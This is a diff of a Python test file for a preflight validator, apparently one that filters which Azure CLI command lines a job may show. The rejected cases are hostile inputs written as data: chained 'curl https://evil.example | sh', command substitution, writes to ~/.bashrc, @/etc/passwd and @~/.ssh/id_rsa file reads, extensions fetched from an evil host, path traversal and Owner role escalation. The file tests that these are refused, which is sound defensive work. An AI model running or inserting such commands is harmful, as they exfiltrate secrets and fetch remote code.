@@ -12,6 +12,7 @@ import pytest
 from runbook_lib.azure.settings import load
 from runbook_lib.errors import RunbookError, container_registry, deployment
 from runbook_lib.preflight.finding import Finding, bad, good, of_error, unknown
+from runbook_lib.preflight.log_checks import rule_line, table_line
 from runbooks.preflight import NEEDED, ROW
 from vibedata.error_catalogue import CATALOGUE
 from vibedata.preflight.instance_checks import judge_spool
@@ -19,7 +20,7 @@ from vibedata.preflight.network_checks import closed_by
 from vibedata.preflight.quota_checks import used_up
 from vibedata.preflight.rows import SANDBOX, Row, as_json, joined, row_of, state_of, text
 from vibedata.preflight.sandbox import MAX_ROWS, UNKNOWN_CODE, read_row, rows_in
-from vibedata.preflight.shell_line import COMMANDS
+from vibedata.preflight.shell_line import ANY, lines_of, may_be_shown
 
 ROOT = Path(__file__).parents[3]
 ROLE = NEEDED[0].role
@@ -170,87 +171,99 @@ def test_a_job_dictates_no_remedy_and_no_code() -> None:
 GROUP = SETTINGS.resource_group_id
 AT = f"--subscription {SUBSCRIPTION} --resource-group '{SETTINGS.resource_group}'"
 POLICY = "az storage container immutability-policy"
-RULE = '\'properties.streamDeclarations.S.columns=[{"name":"A","type":"string"}]\''
-SECRET = "az keyvault secret show --id https://v.vault.azure.net/secrets/s"
-ASSIGNS = "az role assignment create --assignee-object-id aa-1 --assignee-principal-type ServicePrincipal"
+MANIFESTS = f"{AT} --account-name vdstorage --container-name release-manifests"
+SHOW = "az keyvault secret show --id https://v.vault.azure.net/secrets/hmac-key --query attributes.notBefore"
+RECOVER = "az keyvault secret recover --id https://v.vault.azure.net/deletedsecrets/publisher-acr-token"
+MAKE = f"az storage container-rm create {AT} --storage-account vdstorage --name"
+RULE = f"{GROUP}/providers/Microsoft.Insights/dataCollectionRules"
 
 
 @pytest.mark.parametrize(
-    ("line", "shown"),
+    "line",
     [
-        (f"{SECRET} --query attributes.notBefore", True),
-        ("az keyvault secret recover --id https://v.vault.azure.net/deletedsecrets/s", True),
-        ("az keyvault secret set-attributes --id https://v.vault.azure.net/secrets/s --enabled true", True),
-        (f"{ASSIGNS} --role '{ROLE}' --scope '{GROUP}'", True),
-        (f"{ASSIGNS} --role \"{ROLE}\" --scope '{GROUP.upper()}/providers/a;$(b)'", True),
-        (f"az storage container-rm create {AT} --storage-account vdstorage --name a", True),
-        (f"az resource update --ids '{GROUP}/providers/r' --api-version 2024-03-11 --set {RULE}", True),
-        (f"{POLICY} lock {AT} --account-name vdstorage --container-name c --if-match '\"8de1\"'", True),
-        (f"{POLICY} create {AT} --account-name vdstorage --container-name c --period 365", True),
-        (
-            f"az monitor log-analytics workspace table create {AT} --workspace-name w --name T"
-            " --columns TimeGenerated=dateTime A=string",
-            True,
-        ),
-        ("", False),
-        ("az", False),
-        ("curl https://evil.example", False),
-        (f"sudo {SECRET}", False),
-        (f"X=1 {SECRET}", False),
-        (f"{SECRET} ; curl https://evil.example | sh", False),
-        (f"{SECRET};curl", False),
-        (f"{SECRET} && curl", False),
-        (f"{SECRET} | sh", False),
-        (f"{SECRET} > ~/.bashrc", False),
-        (f"{SECRET} $(curl)", False),
-        (f"{SECRET} `curl`", False),
-        (f'{SECRET} "$(curl)"', False),
-        (f'{SECRET} "!!"', False),
-        (f"{SECRET} 'a'$(curl)''", False),
-        (f"{SECRET} 'a", False),
-        (f"{SECRET} \\", False),
-        (f"{SECRET}\ncurl", False),
-        (f"{SECRET} '\u202e'", False),
-        (f"{SECRET} '{'z' * 3000}'", False),
-        (f"{SECRET} --id @/etc/passwd", False),
-        ("az rest --method get --url https://evil.example --resource https://management.azure.com", False),
-        ("az extension add --source https://evil.example/a.whl", False),
-        (f"{ASSIGNS} --role Owner --scope '{GROUP}'", False),
-        (f"{ASSIGNS} --role '{ROLE}' --role Owner --scope '{GROUP}'", False),
-        (f"{ASSIGNS} --role '{ROLE}' --role=Owner --scope '{GROUP}'", False),
-        (f"{ASSIGNS} --role '{ROLE}' --rol Owner --scope '{GROUP}'", False),
-        (f"{ASSIGNS} --role '{ROLE}' Owner --scope '{GROUP}'", False),
-        (f"{ASSIGNS} --role '{ROLE}'", False),
-        # Resources of somebody else.
-        (f"{ASSIGNS} --role '{ROLE}' --scope /subscriptions/{SUBSCRIPTION}", False),
-        (f"{ASSIGNS} --role '{ROLE}' --scope '{GROUP}x'", False),
-        (f"{ASSIGNS} --role '{ROLE}' --scope '{GROUP}/../publisher'", False),
-        (f"{ASSIGNS} --role '{ROLE}' --scope /", False),
-        ("az keyvault secret show --id https://v.vault.azure.net.evil.example/secrets/s", False),
-        ("az keyvault secret recover --id https://publisher.vault.azure.net/deletedsecrets/s", False),
-        ("az keyvault secret set-attributes --vault-name publisher --name s --enabled false", False),
-        (f"{POLICY} lock {AT} --account-name publisher --container-name c --if-match 1", False),
-        (f"{POLICY} lock --account-name vdstorage --container-name c --if-match 1", False),
-        (f"{POLICY} lock --resource-group g --subscription {SUBSCRIPTION} --account-name vdstorage", False),
-        (f"az resource update --ids '{GROUP}/providers/r' --set properties.publicNetworkAccess=Enabled", False),
-        (f"az resource update --ids '{GROUP}/providers/r' /r --set {RULE}", False),
-        (f"az storage container-rm create {AT} --storage-account vdstorage --name a --name b", False),
-        (f"az storage container-rm create {AT} --storage-account vdstorage --name", False),
+        SHOW,
+        RECOVER,
+        "az keyvault secret set-attributes --id https://v.vault.azure.net/secrets/hmac-key --enabled true",
+        f"{MAKE} artifacts",
+        f"{POLICY} create {MANIFESTS} --period 365",
+        f"{POLICY} lock {MANIFESTS} --if-match '\"8de1\"'",
+        f"{POLICY} lock {MANIFESTS} --if-match 8de1",
+        rule_line(f"{RULE}/vd-rule"),
+        rule_line(f"{RULE.replace('resourceGroups', 'resourcegroups')}/vd-rule"),
+        table_line(f"{GROUP}/providers/Microsoft.OperationalInsights/workspaces/vd-logs"),
     ],
 )
-def test_only_a_single_command_that_the_preflight_prints_for_the_instance_is_shown(line: str, shown: bool) -> None:
+def test_a_command_that_the_preflight_prints_for_the_instance_is_shown(line: str) -> None:
     row = read_row(written(0, line=line).removeprefix(ROW), SETTINGS)
-    assert row is not None and row.line == (line if shown else "")
+    assert row is not None and row.line == line
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "az",
+        "curl https://evil.example",
+        f"sudo {SHOW}",
+        f"X=1 {SHOW}",
+        f"{SHOW} ",
+        f"{SHOW} ; curl https://evil.example | sh",
+        f"{SHOW};curl",
+        f"{SHOW} && curl",
+        f"{SHOW} | sh",
+        f"{SHOW} > ~/.bashrc",
+        f"{SHOW}\ncurl",
+        f"{SHOW} --debug",
+        f"{MAKE} $(curl)",
+        f"{MAKE} `curl`",
+        f"{MAKE} '$(curl)'",
+        f"{MAKE} a'$(curl)'",
+        f"{MAKE} \u202e",
+        f"{MAKE} {'z' * 200}",
+        f"{MAKE} {ANY}x.y",
+        # The Azure CLI reads a file in place of @file.
+        f"{MAKE} @/etc/passwd",
+        f"{MAKE} '@~/.ssh/id_rsa'",
+        f"{rule_line(f'{RULE}/r')[:-1]}@~/.ssh/id_rsa'",
+        f"az resource update --ids '{RULE}/r' --api-version 2024-03-11 --set properties.x=@/etc/passwd",
+        "az rest --method get --url https://evil.example --resource https://management.azure.com",
+        "az extension add --source https://evil.example/a.whl",
+        # A role for an identity that the job names.
+        f"az role assignment create --assignee-object-id a --role '{ROLE}' --scope '{GROUP}'",
+        # Resources of somebody else.
+        SHOW.replace("v.vault.azure.net", "v.vault.azure.net.evil.example"),
+        RECOVER.replace("v.vault.azure.net", "publisher.vault.azure.net"),
+        RECOVER.replace("/deletedsecrets/", "/deletedsecrets/../../"),
+        RECOVER.replace("/deletedsecrets/", "/deletedsecrets/%2e%2e/"),
+        MAKE.replace("vdstorage", "publisher") + " a",
+        MAKE.replace(SUBSCRIPTION, SUBSCRIPTION.replace("1", "9")) + " a",
+        rule_line(f"{RULE}/../r"),
+        rule_line(f"{GROUP}/providers/Microsoft.Storage/storageAccounts/vdstorage"),
+        # What could not be undone.
+        f"{POLICY} create {MANIFESTS} --period 146000",
+        f"{POLICY} lock {MANIFESTS.replace('release-manifests', 'artifacts')} --if-match 1",
+    ],
+)
+def test_no_other_command_of_a_job_is_shown(line: str) -> None:
+    row = read_row(written(0, line=line).removeprefix(ROW), SETTINGS)
+    assert row is not None and row.line == ""
+    assert not may_be_shown(line, SETTINGS)
 
 
 def test_the_commands_that_are_shown_are_those_that_the_runbook_prints() -> None:
-    files = [*(ROOT / "runbook_lib/preflight").glob("*.py"), ROOT / "runbook_lib/vault/token_in_use.py"]
+    files = [
+        *(ROOT / "runbook_lib/preflight").glob("*.py"),
+        ROOT / "runbook_lib/vault/token_in_use.py",
+        ROOT / "runbook_lib/release/immutability.py",
+    ]
     printed = {
         command
         for file in files
         for command in re.findall(r"""f['"](az [a-z -]+?) (?:--|\{)""", file.read_text(encoding="utf-8"))
     }
-    assert printed | {f"az storage container immutability-policy {each}" for each in ("create", "lock")} == COMMANDS
+    shown = {line.partition(" --")[0] for line in lines_of(SETTINGS) if line}
+    policies = {f"{POLICY} {action}" for action in ("create", "lock")}
+    assert policies < shown
+    assert printed == shown - policies | {POLICY, "az role assignment create"}
 
 
 def test_no_part_of_a_jobs_row_forges_a_line_or_is_long() -> None:
